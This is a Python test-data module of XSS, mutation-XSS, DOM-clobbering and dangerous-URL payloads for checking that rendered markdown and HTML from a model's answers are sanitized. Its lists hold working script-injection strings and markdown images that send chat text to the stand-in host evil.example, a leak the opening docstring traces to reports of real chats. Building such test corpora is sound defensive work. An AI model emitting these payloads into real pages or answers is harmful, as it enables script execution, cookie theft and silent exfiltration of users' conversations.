"""What a model, or whoever writes what it reads, might send in the hope that a script runs, that a
request leaves, or that a page's own code takes an element of an answer for something else.

Written for this project. Ideas come from the raw HTML, link, code and reference sections of the
CommonMark specification, from the attacks that DOMPurify's tests and its published bypasses name
(mutation in <svg>, <math>, <noscript>, <template> and <style>; DOM clobbering), from OWASP's "XSS
Filter Evasion Cheat Sheet" (spellings of `javascript:`, tags without spaces or ends), from its
"DOM Clobbering Prevention Cheat Sheet", from what HTTPLeaks lists of elements that make requests,
and from reports of chats whose markdown pictures carried the talk away in their addresses.

Where a script runs, it calls `pwned` or one of the dialogs, or changes the title, the cookies or
the address. Whatever leaves goes to evil.example.
"""

from __future__ import annotations

# Harmful where text is taken for HTML: each of these is, which a test checks.

SCRIPTS = [
    "<script>pwned(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,pwned(1)></script >",
    "<script\n>pwned(1)</script\n>",
    "text <script>pwned(1)</script",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    '<script type=importmap>{"imports": {"a": "//evil.example/"}}</script>',
    '<script type=speculationrules>{"prefetch": [{"urls": ["//evil.example/"]}]}</script>',
    "<scr<script>ipt>pwned(1)</scr</script>ipt>",
    "<<script>pwned(1)//<</script>",
    "<svg><script>pwned&lpar;1&rpar;</script></svg>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<div><script>document.title = 'pwned'</script></div>",
    "<img src=x onerror=\"document.cookie = 'pwned=1'\">",
]

HANDLERS = [
    "<img src=x onerror=pwned(1)>",
    "<img/src/onerror=pwned(1)>",
    "<IMG SRC=x oNeRRoR=alert`1`>",
    '<img src="x`y" onerror="pwned(1)">',
    "<img src=x onerror=pwned(1)//\n<b>x</b>",
    "<img \x0c src=x \x0c onerror \x0c = \x0c pwned(1) >",
    '"><img src=x onerror=pwned(1)>',
    "'-->\"></title></textarea></style></script><img src=x onerror=confirm(1)>",
    "a **b <img src=x onerror=pwned(1)> c** d",
    "<svg onload=pwned(1)>",
    "<svg/onload=prompt(1)//\n<b>x</b>",
    "<svg><animate onbegin=pwned(1) attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=javascript:pwned(1) /><text y=9>x</text></a></svg>",
    "<body onload=pwned(1)><b onclick=pwned(1)>x</b>",
    "<details open ontoggle=pwned(1)><summary>x</summary></details>",
    "<input autofocus onfocus=pwned(1)>",
    "<video><source onerror=pwned(1)></video>",
    "<audio src=x onerror=pwned(1)>",
    "<marquee onstart=pwned(1)>x</marquee>",
    "<style onload=pwned(1)></style>",
    "<x tabindex=1 onfocus=pwned(1) onclick=pwned(1) onmouseover=pwned(1)>x</x>",
    "<button popovertarget=p>x</button><p id=p popover onbeforetoggle=pwned(1)>",
    "<a href=/ onmouseover=pwned(1) onclick=pwned(1)>over</a>",
    "<p contenteditable oninput=pwned(1) onfocus=pwned(1)>x</p>",
    "<dialog open onfocusin=pwned(1)><button>x</button></dialog>",
    "<style>@keyframes k {}</style><b style='animation: k 1ms' onanimationstart=pwned(1)>x</b>",
]

# What the HTML parser makes of it is not what it looks like.
MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=pwned(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=pwned(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned(1)>",
    "<xmp><b title='</xmp><img src=x onerror=pwned(1)>'></xmp>",
    "<title><b title='</title><img src=x onerror=pwned(1)>'></title>",
    "<textarea><b title='</textarea><img src=x onerror=pwned(1)>'></textarea>",
    "<template><script>pwned(1)</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=pwned(1)></template></div>",
    "<!--><img src=x onerror=pwned(1)>-->",
    "<!-- --!><img src=x onerror=pwned(1)> -->",
    "<![CDATA[><img src=x onerror=pwned(1)>]]>",
    "<?x ><img src=x onerror=pwned(1)>?>",
    "<!DOCTYPE x [<!ENTITY y '><img src=x onerror=pwned(1)>'>]>",
    "</p><img src=x onerror=pwned(1)><p>",
    "<b\n\n<img src=x onerror=pwned(1)>",
    "<table><td><select><iframe src=javascript:pwned(1)></iframe><img src=x onerror=pwned(1)>",
]

# They need no script: what they are does harm, or what they fetch.
ELEMENTS = [
    "<iframe src=javascript:parent.pwned(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.pwned(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:pwned(1)></object>",
    "<object type=text/html data=//evil.example/></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta name=csrf-token content=evil>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/x)'>x</div>",
    "<form action=//evil.example/><button>Send</button></form>",
    "<form><button formaction=javascript:pwned(1)>x</button></form>",
    "<input type=image src=//evil.example/x>",
    "<img src=//evil.example/x>",
    "<img srcset='//evil.example/x 1x'>",
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<video poster=//evil.example/x></video>",
    "<table background=//evil.example/x><tr><td>x</table>",
    "<svg><image href=//evil.example/x /></svg>",
    "<svg><use href='//evil.example/x#y' /></svg>",
    "<svg><a xlink:href=javascript:pwned(1)><text y=9>x</text></a></svg>",
    "<math><mtext href=javascript:pwned(1)>x</mtext></math>",
    "<a href=javascript:pwned(1)>x</a>",
    "<a href=/ target=opener ping=//evil.example/>x</a>",
    "<map name=m><area href=javascript:pwned(1)></map>",
    # What pages have code for: this client's own element, and htmx.
    "<flask-stream src=//evil.example/></flask-stream>",
    "<div data-stream=output>x</div><button data-stream=retry>x</button>",
    "<b hx-get=//evil.example/ hx-trigger=load hx-on:click=pwned(1)>x</b>",
]

# Names that hide a property of the document or of a form.
CLOBBERS = [
    "<form name=body></form><img name=querySelector>",
    "<form id=location><input name=attributes><input name=action></form>",
    "<a id=pwned></a><a id=pwned name=x href=//evil.example/></a>",
    "<iframe name=alert></iframe>",
    "<img name=baseURI><img name=adoptedStyleSheets><img name=hidden>",
    "<b id=ask>x</b>",
]

HTML = SCRIPTS + HANDLERS + MUTATIONS + ELEMENTS + CLOBBERS

# Harmful where markdown becomes HTML without care: each of these is in marked's own HTML, which a
# test checks.

MARKDOWN = [
    "[a](javascript:pwned(1))",
    "![a](https://evil.example/?q=what+was+said)",
    "![a][b]\n\n[b]: //evil.example/x.png 'c'\n",
    "[![a](https://evil.example/x.png)](javascript:pwned(1))",
    "[a]: javascript:pwned(1)\n\n[a] [a][] [b][a] ![c][a]\n",
    "[a] [a][] [b][a]\n\n> [a]: javascript:pwned(1) 'late'\n",
    "[__proto__]: javascript:pwned(1)\n\n[__proto__] [x][__proto__]\n",
    "[constructor] [tostring][]\n\n[constructor]: javascript:pwned(1)\n[tostring]: data:,x\n",
    "- [x] <input autofocus onfocus=pwned(1)>\n- [ ] [a](javascript:pwned(1))\n",
    "| [a](javascript:pwned(1)) |\n|:-:|\n| <img src=x onerror=pwned(1)> |\n",
    "a | b\n-- | --\n![a](//evil.example) | <svg onload=pwned(1)>\n",
    "# <svg onload=pwned(1)>\n\n<b onclick=pwned(1)>x</b>\n===\n",
    "> 1. <iframe src=javascript:parent.pwned(1)>\n>\n>    [a](vbscript:pwned(1))\n",
    "**[a *b](javascript:pwned(1)) c***",
    "~~<img src=x onerror=pwned(1)>~~ *<svg onload=pwned(1)>*",
    "[<img src=x onerror=pwned(1)>](https://evil.example/)",
    "[a](https://evil.example/ 'b') <a href=\"javascript:pwned(1)\">c",
    "[a](<javascript:pwned(1)> (b))",
    "[a](\njavascript:pwned(1)\n'b'\n)",
    "[a\\](/b)](javascript:pwned\\(1\\))",
    "<javascript:pwned(1)>",
    "<JaVaScRiPt:alert(1)> <data:text/html,<script>pwned(1)</script>",
    "<vbscript:pwned(1)> <file:///etc/passwd> <x-evil:y>",
    "<div>\n\n[a](javascript:pwned(1))\n\n</div>\n",
    "<pre>\n<script>pwned(1)</script>\n\n</pre>\n<img src=x onerror=pwned(1)>\n",
    "<a\nhref='javascript:pwned(1)'\n  title=b>x</a>",
    "```\ncode\n```\n<img src=x onerror=pwned(1)>\n",
    "    code\n\n<script>pwned(1)</script>\n",
    "`a` <img src=x onerror=pwned(1)> `b",
    "\\\\<img src=x onerror=pwned(1)>",
    "a<br onclick=pwned(1)>b  \n<hr onclick=pwned(1)>\n***\n",
    "* a\n  <script>\n  pwned(1)\n  </script>\n* b\n",
    "[a](java\\script:b) [c](javascript\\:pwned(1))",
    "!<b>[a](javascript:pwned(1))",
    "[a](https://ok.example/)[b](javascript:pwned(1))[c](https://ok.example/)",
]

# Ways to spell a scheme that runs, and schemes that lead out of the web. Each is made a link, a
# picture, an autolink and a reference.
URLS = [
    "javascript:pwned(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://evil.example/%0apwned(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/pwned(1)//'>",
    "java&Tab;script:pwned(1)",
    "java&NewLine;script:pwned(1)",
    "&#9;javascript:pwned(1)",
    "&#1;javascript:pwned(1)",
    "&#x20;&#xd;&#xa;javascript:pwned(1)",
    "&#106;avascript:pwned(1)",
    "&#x6A;&#x61;vascript:pwned(1)",
    "&#0000106;avascript:pwned(1)",
    "javascript&colon;pwned(1)",
    "javascript&#58;pwned(1)",
    "javascript&#x3A;pwned(1)",
    "\\javascript:pwned(1)",
    "javascript\\:pwned(1)",
    "vbscript:pwned(1)",
    "data:text/html,<script>pwned(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg/onload=pwned(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "filesystem:https://evil.example/x",
    "view-source:javascript:pwned(1)",
    "about:blank",
    "chrome://settings",
    "intent://x#Intent;scheme=javascript;end",
    "ms-msdt:/id",
    "ftp://evil.example/x",
    "ws://evil.example/x",
    "x-javascript:pwned(1)",
]


def _everywhere(url: str) -> str:
    return f"[a]({url}) [b](<{url}> 'c') ![d]({url}) <{url}> [e][f]\n\n[f]: {url}\n\n![g][f]\n"


# Harmless where all is right, or harmful only in part or with a mistake of one's own: a reference
# decoded twice, an attribute put together as a string, a block that is drawn before it is complete.
ODD = [
    "&lt;img src=x onerror=pwned(1)&gt; &#60;svg onload=pwned(1)&#62;",
    "&amp;lt;img src=x onerror=pwned(1)&amp;gt;",
    "\\u003cimg src=x onerror=pwned(1)\\u003e %3Cscript%3Epwned(1)%3C/script%3E",
    "\uff1cscript\uff1epwned(1)\uff1c/script\uff1e \u02c2img src=x onerror=pwned(1)\u02c3",
    "<scr\0ipt>pwned(1)</scr\0ipt> [a](java\0script:pwned(1))",
    "\ufeff<\u200bscript>pwned(1)</script> \u202e<tpircs>",
    "[a](%6Aavascript:pwned(1)) [b](javascript%3Apwned(1))",
    "[a](&amp;#106;avascript:pwned(1)) [b](javascript&amp;colon;pwned(1))",
    "[a](&#106avascript:pwned(1)) [b](javascript&#58pwned(1))",
    "[a](java\u200bscript:pwned(1)) [b](java\u00adscript:pwned(1)) [c](javascript\uff1apwned(1))",
    "[a](\u2028javascript:pwned(1)) [b](\u00a0javascript:pwned(1)) [c](\x01javascript:pwned(1))",
    "[a](java\tscript:pwned(1)) [b](<java\tscript:pwned(1)>) [c](<\tjavascript:pwned(1)>)",
    "<a href='\n\n\tjava\nscript:pwned(1)'>x</a>",
    "[a](:javascript:pwned(1)) [b](/javascript:pwned(1)) [c](?javascript:pwned(1))",
    "[a](https:javascript:pwned(1)) [b](http:\\\\evil.example) [c](https://javascript:pwned(1)@x)",
    "[a](//evil.example/\"onmouseover=\"pwned(1)) <https://evil.example/'onclick='pwned(1)>",
    '[a](mailto:a@b.example?subject=<script>pwned(1)</script>) [b](tel:"onclick=pwned(1)//)',
    "https://evil.example/\"onclick=\"pwned(1) www.evil.example/'onclick='pwned(1)",
    'a"onclick="pwned(1)@evil.example <a"onclick=pwned(1)//@evil.example>',
    "[a](/b \"' onmouseover='pwned(1)\") [c](/d '\" onmouseover=\"pwned(1)')",
    "[a](/b '&quot; onmouseover=&quot;pwned(1)') [c](/d '\"><img src=x onerror=pwned(1)>')",
    '![" onerror="pwned(1)](/x.png) ![a](/x.png \'"onerror="pwned(1)\')',
    '![<img src=x onerror=pwned(1)>](/x.png) ![a](x"onerror="pwned(1))',
    '```" onmouseover=pwned(1) x="\ncode\n```\n',
    '```js"onclick="pwned(1)\ncode\n```\n',
    "```<script>pwned(1)</script>\n<script>pwned(1)</script>\n```\n",
    "~~~ &quot;&gt;&lt;img&#32;src=x&#32;onerror=pwned(1)&gt;\n</pre><svg onload=pwned(1)>\n~~~\n",
    "```x&#32;evil&#9;class id=y\n```\n",
    "`<img src=x onerror=pwned(1)>` ``</code><script>pwned(1)</script>``",
    "    <script>pwned(1)</script>\n\n    </code></pre><svg onload=pwned(1)>\n",
    "\\<img src=x onerror=pwned(1)> \\<script>pwned(1)\\</script>",
    "[a](javascript:pwned(1",
    "[a](javascript:pwned(1) 'b",
    "![a](https://evil.example/x",
    "![a](https://evil.example/ 'b",
    "[a]: javascript:pwned(1)",
    "<https://evil.example/",
    "<a href=https://evil.example/ onclick=pwned(1)",
    "# pwned\n\n## getElementById\n\n### baseURI\n\nlocation {#body}\n===\n",
    "[^pwned]\n\n[^pwned]: <b id=fn1>x</b>\n",
    '1"onclick="pwned(1). a\n\n999999999. b\n-1. c\n1e9. d\n',
    '- ["onclick=pwned(1)] a\n- [x]<b> b\n',
    '| a |\n|:-"onclick="pwned(1)-:|\n| b |\n\n| a |\n|:-:|\n| "onclick="pwned(1) |\n',
    "$x$ $$<img src=x onerror=pwned(1)>$$ \\(\\href{javascript:pwned(1)}{a}\\)",
    "{{constructor.constructor('pwned(1)')()}} ${pwned(1)} #{pwned(1)} <%= pwned(1) %>",
    "[__proto__]: /a\n[hasownproperty]: /b\n\n[__proto__] [hasOwnProperty] [valueOf]\n",
    "> " * 60 + "<img src=x onerror=pwned(1)> [a](javascript:pwned(1))",
    "[" * 60 + "a](javascript:pwned(1))" + "](b)" * 60,
    "*_" * 40 + "<svg onload=pwned(1)>" + "_*" * 40,
]

PAYLOADS = HTML + MARKDOWN + [_everywhere(url) for url in URLS] + ODD

# Where in an answer such a thing may stand.
PLACES = [
    "{}\n\nafter\n",
    "before {} after\n",
    "# {}\n",
    "{}\n===\n",
    "- {}\n\n  {}\n",
    "1. > {}\n",
    "- [ ] {}\n",
    "| {} | a |\n|---|:-:|\n| b | {} |\n",
    "**{}** _{}_ ~~{}~~\n",
    "`{}` ``{}``\n",
    "```{}\n{}\n```\n",
    "    {}\n",
    "[{}](https://ok.example/)\n",
    "![{}](https://ok.example/)\n",
    "[a]({}) ![a]({})\n",
    "[a](https://ok.example/ '{}') [b](<{}> \"{}\")\n",
    "[{}]: {} '{}'\n\n[{}]\n",
    "[a]\n\n[a]: <{}>\n'{}'\n",
    "<{}> </{}>\n",
    "<div {}>\n{}\n\n</div>\n",
    "https://ok.example/{}\n",
    "&{}; &#{};\n",
]
